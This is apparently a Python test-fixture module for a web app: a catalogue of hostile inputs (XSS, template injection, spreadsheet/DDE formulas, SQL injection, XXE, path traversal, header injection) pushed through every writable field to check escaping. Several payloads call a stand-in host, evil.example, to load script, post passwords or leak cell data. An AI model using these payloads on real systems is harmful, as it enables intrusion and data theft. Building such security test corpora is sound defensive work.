"""A corpus of hostile input: what people (or their compromised accounts) may type.

Every payload is a string a person could put in a title, a body, a name, a tag
or a query parameter. Most try to make a page run script (a tag, an event
handler, a javascript:/data:/vbscript: address, markup that only appears after
Unicode normalisation); others try the template engine, a spreadsheet opening
the CSV export, the database, or the layout (bidi overrides, control
characters, very long strings).

The tests in ``tests/web/test_hostile_input.py`` push them through every
field a person can write and check every page that shows the field; see
``tests/support/html_safety.py`` for what counts as active content.

Conventions that let the tests check more than "nothing ran":

- Script payloads call ``alert(<n>)`` with a number of their own, so the
  corpus has no duplicates and a failure names its payload.
- Template payloads are fenced by ``tq``: ``tq{{7*7}}tq`` must be shown as
  itself; ``tq49tq`` on a page means the template engine evaluated user text.
"""

from __future__ import annotations

import unicodedata
from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    name: str
    text: str
    kind: str  # script, handler, attribute, url, markdown, svg, template, css, frame, unicode, csv, long, control, sql, misc

    def __str__(self) -> str:
        return self.text


def _p(kind: str, name: str, text: str) -> Payload:
    return Payload(name, text, kind)


PAYLOADS: list[Payload] = [
    # --- Script tags ----------------------------------------------------------------
    _p("script", "script-tag", "<script>alert(1)</script>"),
    _p("script", "script-mixed-case", "<ScRiPt>alert(2)</sCrIpT>"),
    _p("script", "script-src", "<script src=//evil.example/x.js></script>"),
    _p("script", "close-textarea", "</textarea><script>alert(4)</script>"),
    _p("script", "close-title", "</title><script>alert(5)</script>"),
    _p("script", "close-script", "</script><script>alert(6)</script>"),
    _p("script", "nested-angle", "<<script>alert(7);//<</script>"),
    _p("script", "comment-wrapped", "<!--<script>alert(8)//-->"),
    _p("script", "plaintext-xmp", "<plaintext><xmp><script>alert(9)</script>"),
    _p("script", "noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(10)>">'),
    # --- Event-handler attributes ---------------------------------------------------
    _p("handler", "img-onerror", "<img src=x onerror=alert(11)>"),
    _p("handler", "img-onerror-quoted", '<img src="x" onerror="alert(12)">'),
    _p("handler", "img-slashes", "<img/src=x/onerror=alert(13)>"),
    _p("handler", "svg-onload", "<svg onload=alert(14)>"),
    _p("handler", "body-onload", "<body onload=alert(15)>"),
    _p("handler", "details-ontoggle", "<details open ontoggle=alert(16)>x</details>"),
    _p("handler", "input-onfocus", "<input autofocus onfocus=alert(17)>"),
    _p("handler", "video-source", "<video><source onerror=alert(18)></video>"),
    _p("handler", "div-onmouseover", '<div style="position:fixed;inset:0" onmouseover=alert(19)>x</div>'),
    _p("handler", "marquee-onstart", "<marquee onstart=alert(20)>x</marquee>"),
    # --- Breaking out of an attribute -------------------------------------------------
    _p("attribute", "double-quote-img", '"><img src=x onerror=alert(21)>'),
    _p("attribute", "single-quote-img", "'><img src=x onerror=alert(22)>"),
    _p("attribute", "double-quote-handler", '" onmouseover="alert(23)" x="'),
    _p("attribute", "single-quote-handler", "' onfocus='alert(24)' autofocus='"),
    _p("attribute", "unquoted-handler", " x onmouseover=alert(25) "),
    _p("attribute", "backtick", "`><img src=x onerror=alert(26)>"),
    # --- Addresses that run script --------------------------------------------------
    _p("url", "javascript", "javascript:alert(27)"),
    _p("url", "javascript-case", "JaVaScRiPt:alert(28)"),
    _p("url", "javascript-tab", "\tjava\tscript:alert(29)"),
    _p("url", "javascript-entities", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(30)"),
    _p("url", "data-html", "data:text/html,<script>alert(31)</script>"),
    _p("url", "data-base64", "data:text/html;base64,PHNjcmlwdD5hbGVydCgzMik8L3NjcmlwdD4="),
    _p("url", "vbscript", "vbscript:msgbox(33)"),
    _p("url", "a-href-entity-tab", '<a href="jav&#x09;ascript:alert(34)">x</a>'),
    _p("url", "a-href-javascript", '<a href="javascript:alert(35)">click</a>'),
    _p("url", "a-href-control", '<a href=" &#14; javascript:alert(36)">x</a>'),
    _p("url", "a-href-newline", '<a href="jav\nascript:alert(37)">x</a>'),
    # --- Markdown links and images --------------------------------------------------
    _p("markdown", "md-javascript", "[x](javascript:alert(38))"),
    _p("markdown", "md-javascript-upper", "[x](JAVASCRIPT:alert(39))"),
    _p("markdown", "md-javascript-spaces", "[x](<  javascript:alert(40)>)"),
    _p("markdown", "md-entity-tab", "[x](jav&#x09;ascript:alert(41))"),
    _p("markdown", "md-data", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCg0Mik8L3NjcmlwdD4=)"),
    _p("markdown", "md-vbscript", "[x](vbscript:msgbox(43))"),
    _p("markdown", "md-fider-quote", '[x]("onerror="alert(44))'),
    _p("markdown", "md-image-javascript", "![x](javascript:alert(45))"),
    _p("markdown", "md-image-onerror", '![x](https://evil.example/x.png"onerror="alert(46))'),
    _p("markdown", "md-link-breakout", '[x](https://ok.example/"><script>alert(47)</script>)'),
    _p("markdown", "md-autolink", "<javascript:alert(48)>"),
    _p("markdown", "md-reference", "[x][r]\n\n[r]: javascript:alert(49)"),
    _p("markdown", "md-data-image-link", "[x](data:image/png;base64,iVBORw0KGgo=) markdown lets data: images through"),
    # --- SVG and MathML -------------------------------------------------------------
    _p("svg", "svg-script", "<svg><script>alert(50)</script></svg>"),
    _p("svg", "svg-xlink", '<svg><a xlink:href="javascript:alert(51)"><text x="20" y="20">x</text></a></svg>'),
    _p("svg", "svg-animate", "<svg><animate onbegin=alert(52) attributeName=x dur=1s>"),
    _p("svg", "math-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(53)>"),
    _p("svg", "math-href", '<math href="javascript:alert(54)">x</math>'),
    # --- Template injection -----------------------------------------------------------
    _p("template", "jinja-expression", "tq{{7*7}}tq"),
    _p("template", "jinja-statement", "tq{% for c in [1,2,3] %}{{c}}{% endfor %}tq"),
    _p("template", "jinja-config", "tq{{config.SECRET_KEY}}{{config}}tq"),
    _p("template", "jinja-globals", "tq{{ self.__init__.__globals__.__builtins__ }}tq"),
    _p("template", "other-engines", "tq${7*7}#{7*7}<%= 7*7 %>tq"),
    _p("template", "angular", "tq{{constructor.constructor('alert(60)')()}}tq"),
    # --- Style and CSS ----------------------------------------------------------------
    _p("css", "style-tag", '<style>body{background:url("javascript:alert(61)")}</style>'),
    _p("css", "style-attribute-url", '<div style="background-image:url(javascript:alert(62))">x</div>'),
    _p("css", "css-expression", '<p style="width:expression(alert(63))">x</p>'),
    _p("css", "link-stylesheet", "<link rel=stylesheet href=//evil.example/x.css>"),
    # --- Frames, meta refresh, base, forms, plugins -------------------------------------
    _p("frame", "iframe-srcdoc", '<iframe srcdoc="<script>alert(65)</script>"></iframe>'),
    _p("frame", "iframe-javascript", '<iframe src="javascript:alert(66)"></iframe>'),
    _p("frame", "meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(67)">'),
    _p("frame", "base-href", '<base href="//evil.example/">'),
    _p("frame", "form-action", '<form action="//evil.example/steal"><input name=password><button>Sign in again</button></form>'),
    _p("frame", "button-formaction", '<button formaction="javascript:alert(70)">x</button>'),
    _p("frame", "object-data", '<object data="javascript:alert(71)"></object>'),
    _p("frame", "embed-src", '<embed src="data:text/html,<script>alert(72)</script>">'),
    # --- Unicode: bidi, zero-width, look-alikes that normalise into markup -------------
    _p("unicode", "bidi-override", "Invoice \u202egpj.exe\u202c for review"),
    _p("unicode", "zero-width-in-tag", "<scr\u200bipt>alert(74)</scr\u200bipt>"),
    _p("unicode", "fullwidth-angles", "\uff1cscript\uff1ealert(75)\uff1c/script\uff1e"),
    _p("unicode", "small-form-angles", "\ufe64img src=x onerror=alert(76)\ufe65"),
    _p("unicode", "fullwidth-admin", "Ａｄｍｉｎ\u200d team lead"),
    _p("unicode", "combining-pile", "Ze\u0301\u0301\u0301\u0301ro combining"),
    _p("unicode", "emoji-astral", "Fix the \U0001F6BD queue \U0001F4A9 now"),
    _p("unicode", "lone-surrogate", "lone \ud800 surrogate <b>x</b>"),
    _p("unicode", "line-separators", "one\u2028two\u2029three <i>x</i>"),
    # --- Spreadsheet formulas (the CSV export) -----------------------------------------
    _p("csv", "hyperlink", '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")'),
    _p("csv", "dde-equals", "=cmd|' /C calc'!A0"),
    _p("csv", "plus-cmd", "+cmd|' /C notepad'!A0"),
    _p("csv", "minus-sum", "-2+3+cmd|' /C calc'!A0"),
    _p("csv", "at-sum", "@SUM(1+1)*cmd|' /C calc'!A0"),
    _p("csv", "tab-equals", "\t=1+1 tab first"),
    _p("csv", "cr-equals", "\r=1+1 carriage return first"),
    _p("csv", "fullwidth-equals", "\uff1d1+1 fullwidth equals"),
    # --- Very long strings ------------------------------------------------------------
    _p("long", "just-too-long-title", "<b>" + "x" * 150 + "</b>"),
    _p("long", "five-thousand", "<script>alert(93)</script>" + "y" * 5000),
    _p("long", "twenty-thousand", "z" * 20_000 + "<img src=x onerror=alert(94)>"),
    _p("long", "one-long-word", "w" * 400),
    # --- NUL and control characters -----------------------------------------------------
    _p("control", "nul-byte", "nul\x00byte <script>alert(96)</script>"),
    _p("control", "c0-controls", "ctrl\x01\x02\x07\x08 bell <b>x</b>"),
    _p("control", "ansi-escape", "\x1b[31mred\x1b[0m terminal colours"),
    _p("control", "crlf-header", "crlf\r\nSet-Cookie: session=evil\r\n\r\n<script>alert(99)</script>"),
    _p("control", "c1-controls", "c1\x85\x9b controls"),
    # --- SQL-ish -------------------------------------------------------------------------
    _p("sql", "or-1-1", "' OR 1=1 --"),
    _p("sql", "drop-table", "1; DROP TABLE ideas; --"),
    _p("sql", "double-quote-or", '" OR ""="'),
    _p("sql", "union-select", "%' UNION SELECT password_hash FROM users --"),
    _p("sql", "pg-sleep", "(SELECT pg_sleep(5))"),
    _p("sql", "like-wildcards", "%_%\\%"),
    _p("sql", "fts-syntax", 'NEAR(a b) OR "x" AND -y * ^z'),
    _p("sql", "tsquery-syntax", "a & !b | c:* <-> d"),
    # --- Everything else -------------------------------------------------------------
    _p("misc", "pre-escaped", "&lt;script&gt;alert(108)&lt;/script&gt;"),
    _p("misc", "js-escaped", "\\u003cscript\\u003ealert(109)\\u003c/script\\u003e"),
    _p("misc", "polyglot", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(110) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(110)//>\\x3e"),
    _p("misc", "phishing-link", '<a href="https://evil.example" target=_blank>Reset your password</a>'),
    _p("misc", "xxe", '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
    _p("misc", "path-traversal", "../../../../etc/passwd"),
    _p("misc", "proto-pollution", '{"__proto__": {"admin": true}}'),
    _p("misc", "percent-encoded", "%3Cscript%3Ealert(115)%3C%2Fscript%3E"),
]

BY_NAME = {p.name: p for p in PAYLOADS}
assert len(BY_NAME) == len(PAYLOADS), "payload names must be unique"
assert len({p.text for p in PAYLOADS}) == len(PAYLOADS), "payloads must be distinct"

# One or two of each kind: for the fields that get a representative subset.
SAMPLE: list[Payload] = [
    BY_NAME[name]
    for name in (
        "script-tag", "close-textarea", "img-onerror", "svg-onload", "double-quote-img", "single-quote-handler",
        "a-href-entity-tab", "md-javascript", "md-fider-quote", "md-image-onerror", "md-data-image-link", "svg-xlink", "math-mxss",
        "jinja-expression", "jinja-statement", "style-tag", "iframe-srcdoc", "meta-refresh", "base-href",
        "form-action", "fullwidth-angles", "zero-width-in-tag", "bidi-override", "hyperlink", "at-sum",
        "nul-byte", "crlf-header", "or-1-1", "pre-escaped", "polyglot",
    )
]

# Query-string values: the corpus plus what only a URL can carry.
QUERY_EXTRAS = [
    "", " ", "0", "-1", "1.5", "1e9", "0x10", "2147483647", "2147483648", "9" * 30, "1" * 5000,
    "²", "١٢", "１２", "NaN", "null", "[]", "{}", "true", "%00", "\x00", "1\x00", "a" * 300,
]
QUERY_VALUES: list[str] = [p.text for p in PAYLOADS if len(p.text) <= 2000] + QUERY_EXTRAS


def csv_formula(cell: str) -> bool:
    """True when a spreadsheet would read this cell as a formula (or as DDE)."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


def form_encode(value: str) -> str:
    """A lone surrogate cannot be UTF-8: send its bytes anyway, as a broken client would."""
    return value.encode("utf-8", "surrogatepass").decode("utf-8", "replace")


def packed(limit: int, separator: str = "\n\n") -> list[str]:
    """The corpus joined into as few texts of at most ``limit`` characters as will hold it
    (one field, many payloads, one request). Payloads longer than ``limit`` are left out, and
    so is NUL, which makes the hub refuse the whole request (tested on its own)."""
    chunks, current = [], ""
    for payload in [p.text for p in PAYLOADS if len(p.text) <= limit and "\x00" not in p.text]:
        candidate = f"{current}{separator}{payload}" if current else payload
        if len(candidate) > limit:
            chunks.append(current)
            candidate = payload
        current = candidate
    if current:
        chunks.append(current)
    return chunks


def nfkc(text: str) -> str:
    return unicodedata.normalize("NFKC", text)
